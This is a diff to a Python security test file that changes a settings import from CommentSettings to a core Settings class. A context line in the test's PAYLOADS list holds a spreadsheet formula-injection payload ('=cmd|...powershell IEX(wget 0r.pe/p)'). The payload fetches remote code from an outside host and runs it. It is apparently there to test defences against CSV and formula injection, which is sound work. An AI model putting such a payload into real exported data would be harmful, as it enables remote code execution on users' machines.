@@ -16,8 +16,8 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from kechuang.comments import service as comments
 from kechuang.comments.schemas import CommentForm
-from kechuang.comments.settings import CommentSettings
 from kechuang.core import spreadsheet
+from kechuang.core.settings import Settings
 from kechuang.opendata import service as opendata
 from kechuang.plan import service as plans
 from kechuang.reports.service import build_report, write_pack
@@ -46,7 +46,7 @@ PAYLOADS = [
     "=SUM(A1:A9) 求和",
     "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
 ]
-SETTINGS = CommentSettings(secret_key="security-tests", comment_min_seconds=0, comment_rate_limit=100)
+SETTINGS = Settings(secret_key="security-tests", comment_min_seconds=0, comment_rate_limit=100)
 NOW = dt.datetime(2023, 1, 16, 2, 0, tzinfo=dt.UTC)
 
 
